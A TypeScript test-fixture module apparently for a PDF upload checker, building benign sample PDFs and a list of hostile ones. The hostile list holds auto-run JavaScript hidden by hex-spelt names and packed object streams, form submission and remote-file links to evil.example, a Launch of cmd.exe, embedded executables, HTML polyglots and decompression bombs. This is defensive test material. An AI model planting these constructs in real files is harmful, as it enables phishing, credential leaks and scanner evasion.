import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { PDFDocument } from 'pdf-lib'

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')

/** A document of one page; object 1 is its catalog, whose entries may be added to, further objects are 4 and on. */
export function pdf(catalog = '', more: readonly (string | Buffer)[] = [], trailer = ''): Buffer {
  const objects: (string | Buffer)[] = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>',
    ...more,
  ]
  const parts: Buffer[] = [latin1('%PDF-1.7\n')]
  const places: number[] = []
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  for (const [index, object] of objects.entries()) {
    places.push(length())
    const body = typeof object === 'string' ? latin1(object) : object
    parts.push(latin1(`${index + 1} 0 obj\n`), body, latin1('\nendobj\n'))
  }
  const start = length()
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const count = objects.length + 1
  parts.push(latin1(`xref\n0 ${count}\n0000000000 65535 f \n${rows}trailer\n<</Size ${count}/Root 1 0 R${trailer}>>\n`))
  parts.push(latin1(`startxref\n${start}\n%%EOF\n`))
  return Buffer.concat(parts)
}

const stream = (entries: string, data: Buffer): Buffer =>
  Buffer.concat([latin1(`<<${entries}/Length ${data.length}>>\nstream\n`), data, latin1('\nendstream')])

const packed = (
  objects: readonly string[],
  pack: (bytes: Buffer) => Buffer = deflateSync,
  entries = '/Type/ObjStm',
): Buffer => {
  let places = ''
  let body = ''
  for (const [index, object] of objects.entries()) {
    places += `${50 + index} ${body.length} `
    body += `${object} `
  }
  const data = pack(latin1(places + body))
  return stream(`${entries}/N ${objects.length}/First ${places.length}/Filter/FlateDecode`, data)
}

const js = '<</S/JavaScript/JS(app.alert\\(1\\))>>'

async function generated(): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage().drawText('invoice 2026')
  document.setTitle('receipt')
  return Buffer.from(await document.save())
}

async function scanned(): Promise<Buffer> {
  const document = await PDFDocument.create()
  const page = document.addPage()
  const { default: sharp } = await import('sharp')
  const photo = await sharp(randomBytes(300 * 400 * 3), { raw: { width: 300, height: 400, channels: 3 } })
    .jpeg()
    .toBuffer()
  page.drawImage(await document.embedJpg(photo))
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

/** Documents as buyers send them. */
export const harmless = async (): Promise<readonly (readonly [name: string, bytes: Buffer])[]> => [
  ['the smallest', pdf()],
  ['one with packed objects', await generated()],
  ['a scan', await scanned()],
  ['one that opens at a page', pdf('/OpenAction[3 0 R/Fit]')],
  [
    'one with outlines',
    pdf('/Outlines 4 0 R', ['<</First 5 0 R/Last 5 0 R>>', '<</Title(page)/Parent 4 0 R/Dest[3 0 R/Fit]>>']),
  ],
  [
    'one with a signature',
    pdf('/AcroForm<</Fields[4 0 R]/SigFlags 3>>', [
      '<</FT/Sig/T(sig)/V<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>>>',
    ]),
  ],
  ['one that speaks of scripts', pdf('', ['<</Title(about JavaScript and URI)>>'])],
  ['one with words of a form', pdf('', [stream('', latin1('BT (stream of /Span text) Tj ET'))])],
  ['one changed afterwards', Buffer.concat([pdf(), pdf().subarray(9)])],
  [
    'one with facts about it',
    pdf('/Metadata 4 0 R', [
      stream('/Type/Metadata/Subtype/XML', latin1('<x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>')),
    ]),
  ],
]

const action = (entries: string) => pdf(`/OpenAction 4 0 R`, [`<<${entries}>>`])
const bomb = (bytes: Buffer): Buffer => deflateSync(Buffer.concat([bytes, Buffer.alloc(80 * 1024 * 1024)]))

/** Documents that act, reach out, carry something, hide something, or are something else as well. */
export const harmful: readonly (readonly [name: string, bytes: Buffer])[] = [
  ['a script', action('/S/JavaScript/JS(app.alert\\(1\\))')],
  ['a script by a spelt name', action('/S/J#61vaScript/J#53(app.alert\\(1\\))')],
  ['a script by a name spelt whole', action('/#53/#4A#61#76#61#53#63#72#69#70#74')],
  ['a packed script', pdf('/OpenAction 50 0 R', [packed([js])])],
  ['a packed script by a spelt name', pdf('/OpenAction 50 0 R', [packed(['<</S/Java#53cript/J#53(1)>>'])])],
  ['a script packed without saying so', pdf('/OpenAction 50 0 R', [packed([js], deflateSync, '')])],
  ['a script packed under a spelt type', pdf('/OpenAction 50 0 R', [packed([js], deflateSync, '/Type/Obj#53tm')])],
  ['a script in the names', pdf('/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', [js])],
  ['a script when a page is turned', pdf('', [`<</Type/Page/AA<</O ${js}>>>>`])],
  ['a script in a stream', pdf('/OpenAction<</S/JavaScript/JS 4 0 R>>', [stream('', latin1('app.alert(1)'))])],
  ['a link', pdf('', ['<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://evil.example)>>>>'])],
  ['a form that is sent', action('/S/SubmitForm/F(https://evil.example)')],
  ['a form that takes in data', action('/S/ImportData/F(data.fdf)')],
  ['a file of another machine', action('/S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]')],
  ['a file of another machine by hex', action('/S/Go#54oR/F<5c5c6576696c>/D[0/Fit]')],
  ['a place on another machine in any string', pdf('', ['<</Any(\\\\\\\\evil.example\\\\share)>>'])],
  ['a file within', action('/S/GoToE/D[0/Fit]')],
  ['a program', action('/S/Launch/F(cmd.exe)')],
  ['a program by Windows’ words', action('/S/Launch/Win<</F(cmd.exe)>>')],
  [
    'an attached file',
    pdf('/Names<</EmbeddedFiles 4 0 R>>', [
      '<</Names[(a) 5 0 R]>>',
      '<</Type/Filespec/EF<</F 6 0 R>>>>',
      stream('/Type/EmbeddedFile', latin1('MZ')),
    ]),
  ],
  ['a pinned file', pdf('', ['<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>', '<</F(a.exe)>>'])],
  ['a portfolio', pdf('/Collection<</View/D>>')],
  ['a form of another language', pdf('/AcroForm<</XFA 4 0 R>>', [stream('', latin1('<xdp/>'))])],
  ['a film', pdf('', ['<</Type/Annot/Subtype/Movie/Movie<</F(a.avi)>>>>'])],
  ['a rendition', action('/S/Rendition/OP 0/JS(1)')],
  ['rich media', pdf('', ['<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>'])],
  ['data in another file', pdf('', [stream('/F(https://evil.example/a)', latin1(''))])],
  ['PostScript', pdf('', [stream('/Type/XObject/Subtype/PS', latin1('%!PS'))])],
  ['a locked one', pdf('', ['<</Filter/Standard/V 1/R 2/O(0)/U(0)/P -4>>'], '/Encrypt 4 0 R')],
  ['a page for browsers in front', Buffer.concat([latin1('<html><script>alert(1)</script>'), pdf()])],
  [
    'a page for browsers in a comment',
    Buffer.from(pdf().toString('latin1').replace('\n', '\n%<script>alert(1)</script>\n'), 'latin1'),
  ],
  ['a page for browsers in a stream', pdf('', [stream('', latin1('<html><body onload=alert(1)>'))])],
  ['a page for browsers behind', Buffer.concat([pdf(), latin1('<script>alert(1)</script>')])],
  [
    'an archive behind',
    Buffer.concat([pdf(), latin1('PK\x03\x04'), randomBytes(40), latin1('PK\x05\x06'), Buffer.alloc(18)]),
  ],
  ['an archive within', pdf('', [stream('', Buffer.concat([latin1('PK\x05\x06'), Buffer.alloc(18)]))])],
  ['objects inside of data', pdf('/OpenAction 9 0 R', [stream('', latin1(`9 0 obj ${js} endobj`))])],
  [
    'objects inside of a comment',
    Buffer.from(pdf().toString('latin1').replace('\n', `\n%9 0 obj ${js} endobj\n`), 'latin1'),
  ],
  ['a bomb', pdf('', [packed(['<<>>'], bomb)])],
  [
    'a bomb in a bomb',
    pdf('', [
      stream(
        '/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]',
        deflateSync(deflateSync(latin1('50 0 <<>>'))),
      ),
    ]),
  ],
  ['a deep one', pdf('', [`${'['.repeat(5_000)}${']'.repeat(5_000)}`])],
  ['no pages', latin1('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n')],
  ['one cut off', pdf().subarray(0, 60)],
]
